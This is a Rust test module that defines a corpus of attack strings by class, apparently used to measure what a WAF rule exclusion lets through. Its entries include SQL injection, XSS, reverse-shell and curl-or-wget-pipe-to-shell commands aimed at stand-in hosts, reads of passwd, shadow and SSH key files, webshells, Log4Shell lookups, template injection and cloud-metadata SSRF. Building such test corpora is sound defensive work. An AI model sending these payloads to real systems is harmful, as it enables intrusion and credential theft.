//! A small corpus of attacks, to show what an exclusion opens and what it does not.
//!
//! Each class has attacks that its rules know in several ways, so that an exclusion of one rule is tried against the
//! others. They are strings for tests: hosts and addresses in them are reserved for documentation.

/// What an attack is after, as the tags of the Core Rule Set name it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting.
    Xss,
    /// Shell commands.
    Rce,
    /// Paths to local files.
    Lfi,
    /// Files of other servers.
    Rfi,
    /// PHP code and objects.
    Php,
    /// Java code and objects, and lookups in log messages.
    Java,
    /// Node.js, templates and prototypes.
    Generic,
    /// Session fixation.
    Session,
    /// Heads and requests in values.
    Protocol,
    /// Filters of LDAP.
    Ldap,
    /// Requests to internal addresses.
    Ssrf,
}

impl Class {
    /// As a table shows it.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Sqli => "sqli",
            Self::Xss => "xss",
            Self::Rce => "rce",
            Self::Lfi => "lfi",
            Self::Rfi => "rfi",
            Self::Php => "php",
            Self::Java => "java",
            Self::Generic => "nodejs and templates",
            Self::Session => "session fixation",
            Self::Protocol => "protocol",
            Self::Ldap => "ldap",
            Self::Ssrf => "ssrf",
        }
    }

    /// Whether what is for `other` is for this class too: scripts and markup fix sessions.
    pub(super) fn is_part_of(self, other: Self) -> bool {
        (self, other) == (Self::Session, Self::Xss)
    }

    /// The class that a tag of a rule means. `attack-generic` means none.
    pub(super) fn of_tag(tag: &str) -> Option<Self> {
        Some(match tag {
            "attack-sqli" => Self::Sqli,
            "attack-xss" => Self::Xss,
            "attack-rce" | "language-shell" => Self::Rce,
            "attack-lfi" => Self::Lfi,
            "attack-rfi" => Self::Rfi,
            "attack-injection-php" => Self::Php,
            "attack-injection-java" | "language-java" => Self::Java,
            "attack-injection-generic" | "attack-ssti" => Self::Generic,
            "attack-fixation" => Self::Session,
            "attack-protocol" => Self::Protocol,
            "attack-ldap" | "language-ldap" => Self::Ldap,
            "attack-ssrf" => Self::Ssrf,
            _ => return None,
        })
    }
}

/// Every attack with its class, class by class.
pub(super) fn corpus() -> impl Iterator<Item = (Class, &'static str)> {
    let classes = CORPUS.iter();
    classes.flat_map(|(class, attacks)| attacks.iter().map(|attack| (*class, *attack)))
}

static CORPUS: [(Class, &[&str]); 12] = [
    (
        Class::Sqli,
        &[
            "1' OR '1'='1",
            "1 UNION ALL SELECT username,password FROM users--",
            "1'; DROP TABLE orders; --",
            "1' AND SLEEP(5)#",
            "admin'/*",
            "1 AND 1=CONVERT(int,(SELECT @@version))--",
            "'; EXEC master..xp_cmdshell 'dir'--",
            "-1 or (select count(*) from information_schema.tables)>0",
            "1;select pg_sleep(5)--",
        ],
    ),
    (
        Class::Xss,
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(document.cookie)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "' onfocus=alert(1) autofocus x='",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
            "<style>@import 'http://192.0.2.66/x.css';</style>",
        ],
    ),
    (
        Class::Rce,
        &[
            "; cat /etc/passwd",
            "| nc -e /bin/sh 192.0.2.66 4444",
            "$(curl http://192.0.2.66/x.sh|sh)",
            "x;wget http://192.0.2.66/x -O- | sh",
            "() { :; }; /bin/bash -c id",
            "& ping -n 3 192.0.2.66 &",
            "x || whoami && uname -a",
            "powershell.exe -enc SQBFAFgA; Invoke-Expression x",
        ],
    ),
    (
        Class::Lfi,
        &[
            "../../../../etc/passwd",
            "..%2f..%2f..%2f..%2fetc/shadow",
            "/proc/self/environ",
            "..\\..\\..\\windows\\win.ini",
            "../../.git/config",
            "/var/www/html/.htpasswd",
            "/home/anna/.ssh/id_rsa",
        ],
    ),
    (
        Class::Rfi,
        &[
            "http://192.0.2.66/shell.txt?",
            "https://evil.example/shell.php?",
            "ftp://user:x@evil.example/shell.txt",
            "file=http://192.0.2.66/cmd.txt",
            "http://198.51.100.7/c99.php",
            "url:http://192.0.2.66/a",
        ],
    ),
    (
        Class::Php,
        &[
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "$_POST[x](base64_decode('aWQ='));",
            "call_user_func('shell_exec','id')",
            "phar://upload.jpg/x",
            "eval(gzinflate(base64_decode($x)));",
        ],
    ),
    (
        Class::Java,
        &[
            "${jndi:ldap://evil.example/a}",
            "java.lang.Runtime.getRuntime().exec('id')",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "new java.lang.ProcessBuilder({'id'}).start()",
        ],
    ),
    (
        Class::Generic,
        &[
            "require('child_process').execSync('id')",
            "_$$ND_FUNC$$_function(){return 1}()",
            "{\"__proto__\":{\"admin\":true}}",
            "x.constructor.prototype.admin=1",
            "<%= system('id') %>",
            "{{ self.__init__.__globals__.os.popen('id').read() }}",
            "this.constructor.constructor('return process')()",
        ],
    ),
    (
        Class::Session,
        &[
            "document.cookie=\"sessionid=1; domain=.example.com\"; x.cookie; domain=evil.example",
            "<meta http-equiv=\"Set-Cookie\" content=\"sessionid=1\">",
            "x.cookie = 'a=1; expires=0; path=/'",
        ],
    ),
    (
        Class::Protocol,
        &[
            "x\r\nSet-Cookie: session=1",
            "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html",
            "GET /admin HTTP/1.1\r\nHost: internal",
            "x\r\nLocation: https://evil.example/",
            "POST /admin HTTP/1.1",
        ],
    ),
    (
        Class::Ldap,
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&(password=*))",
            "*)(objectClass=*)",
            "x)(|(cn=*)",
        ],
    ),
    (
        Class::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://169.254.170.2/v2/credentials",
            "http://100.100.100.200/latest/meta-data/",
        ],
    ),
];
